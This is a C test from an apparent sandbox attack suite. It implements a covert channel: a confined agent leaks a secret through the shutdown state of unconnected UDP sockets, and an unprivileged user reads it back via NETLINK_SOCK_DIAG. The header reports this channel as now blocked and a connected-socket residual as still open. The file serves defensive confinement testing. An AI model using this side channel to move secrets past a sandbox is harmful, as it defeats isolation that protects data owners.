// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* udp_shutdown_diag - per-socket state sock_diag shows every user, set with no setsockopt:
 * shutdown(2) on an UNCONNECTED UDP socket returns ENOTCONN but still ORs the direction into
 * sk_shutdown (inet_shutdown's "hack to wake up other listeners"), and NETLINK_SOCK_DIAG reports
 * it in INET_DIAG_SHUTDOWN (always included, no privilege: what `ss` reads). A SERVER agent binds
 * SD_SOCKS UDP sockets before its recv to 127.77.(i>>8).(i&255):0 (the address is the index; a
 * tainted bind is refused); after the recv it calls shutdown(SHUT_RD/SHUT_WR/SHUT_RDWR) or
 * nothing on each: 2 canary bits per socket.
 * Verifier: uid 65534 dumps the UDP sockets over NETLINK_SOCK_DIAG while the agent waits (sync
 * "set") and reassembles the bits by source address.
 * Result (host, user and root): blocked: once tainted, shutdown(2) is asked of mncctl run's
 * launcher, which shuts only a connected stream socket (on its own copy of it) and refuses a
 * UDP socket with EPERM (run_gate.h). Before that gate: LEAKED user and root (cgroup backend,
 * 6.18; no hook judged shutdown(2)).
 * Control (MNC_ATTACKS_CONTROL=1): LEAKED, verified.
 * Bandwidth before: 2 bits per socket per shutdown call (a socket is written once: the bits only
 * OR in); the fd limit bounds it (~1000 sockets: ~250 bytes per agent run, ~10^5 calls/s).
 * Left: a tainted agent's shutdown of its connected stream sockets (TCP or UNIX connections its
 * scope let it make) is still shown by sock_diag: up to 2 bits per connection, bounded by the
 * connections it may open (docs/threat-model.md). */
#include <netinet/in.h>
#include <stdint.h>
#include <linux/inet_diag.h>

#include "atk.h"
#include "atk_variants.h"

#define SD_SOCKS 128 /* 2 bits each: 32 bytes */

static int agent(struct atk_ctx *c)
{
    static int fds[SD_SOCKS];
    for (int i = 0; i < SD_SOCKS; i++) {
        fds[i] = (int)atk_try(c, "socket udp", socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f4d0000u | (uint32_t)i)};
        if (fds[i] >= 0 &&
            atk_try(c, "bind 127.77.x.y:0 (before the recv)", bind(fds[i], (struct sockaddr *)&a, sizeof(a))) < 0) {
            close(fds[i]);
            fds[i] = -1;
        }
    }
    atk_recv(c);
    size_t n = strlen(c->secret);
    for (int i = 0; i < SD_SOCKS && (size_t)(i / 4) < n; i++) {
        int v = ((unsigned char)c->secret[i / 4] >> (2 * (i % 4))) & 3;
        if (v && fds[i] >= 0) {
            /* ENOTCONN is the expected answer: the state is set all the same */
            int r = shutdown(fds[i], v - 1);
            if (r < 0 && errno != ENOTCONN)
                atk_try(c, "shutdown", r);
        }
    }
    atk_try(c, "shutdown on unconnected UDP sockets (ENOTCONN expected)", 0);
    atk_sync(c, "set"); /* the sockets stay open until the agent exits */
    return 0;
}

/* uid 65534: the sk_shutdown of every AF_INET UDP socket bound to 127.77.0.0/16, by index */
struct sd_out {
    unsigned char *out;
    int cap, got;
};
static void sd_each(const struct inet_diag_msg *m, int type, const void *p, size_t n, void *arg)
{
    struct sd_out *o = arg;
    uint32_t src = ntohl(m->id.idiag_src[0]);
    if (type != INET_DIAG_SHUTDOWN || n < 1 || (src >> 16) != 0x7f4d || (int)(src & 0xffff) >= o->cap)
        return;
    o->out[src & 0xffff] = *(const unsigned char *)p & 3;
    o->got++;
}
static int dump_udp(unsigned char *out, int cap)
{
    struct sd_out o = {out, cap, 0};
    return atkv_diag_dump(IPPROTO_UDP, 0, ~0u, sd_each, &o) < 0 ? -1 : o.got;
}

/* uid 65534 (atk_as_uid): reassembles the bits by source address; 1 if the canary is there */
static int decode(struct atk_ctx *c, char *out, size_t n)
{
    static unsigned char sd[SD_SOCKS];
    int got = dump_udp(sd, SD_SOCKS);
    char msg[SD_SOCKS / 4 + 1] = {0};
    for (int i = 0; got > 0 && i < SD_SOCKS; i++)
        msg[i / 4] = (char)((unsigned char)msg[i / 4] | (sd[i] << (2 * (i % 4))));
    if (!atk_buf_has(msg, sizeof(msg) - 1, c->canary))
        return 0;
    snprintf(out, n,
             "uid 65534 read the canary from the shutdown state of the agent's unconnected UDP "
             "sockets (NETLINK_SOCK_DIAG INET_DIAG_SHUTDOWN, source address as the index)");
    return 1;
}

static void on_sync(struct atk_ctx *c, const char *tag) { atk_verify_as_nobody(c, tag, "set", decode); }

static const struct atk A = {"udp_shutdown_diag",
                             "shutdown(2) state of unconnected UDP sockets, read through sock_diag",
                             ATK_SERVER | ATK_NO_RECV,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
